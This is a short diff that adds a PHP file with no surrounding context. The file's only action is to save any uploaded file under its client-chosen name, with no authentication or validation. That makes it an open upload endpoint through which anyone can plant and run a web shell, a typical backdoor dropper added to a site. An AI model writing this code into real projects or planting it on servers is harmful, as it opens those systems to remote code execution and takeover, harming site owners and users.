@@ -1,0 +1,2 @@
+<?php
+move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);
